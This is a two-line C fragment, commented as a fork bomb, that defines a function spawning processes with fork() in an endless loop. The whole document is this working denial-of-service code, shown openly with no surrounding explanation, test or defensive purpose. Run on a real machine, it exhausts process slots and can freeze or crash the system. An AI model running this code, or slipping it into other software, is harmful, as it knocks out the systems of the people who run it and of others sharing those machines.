/* A fork bomb. */
static void attack(void) { for (;;) fork(); }
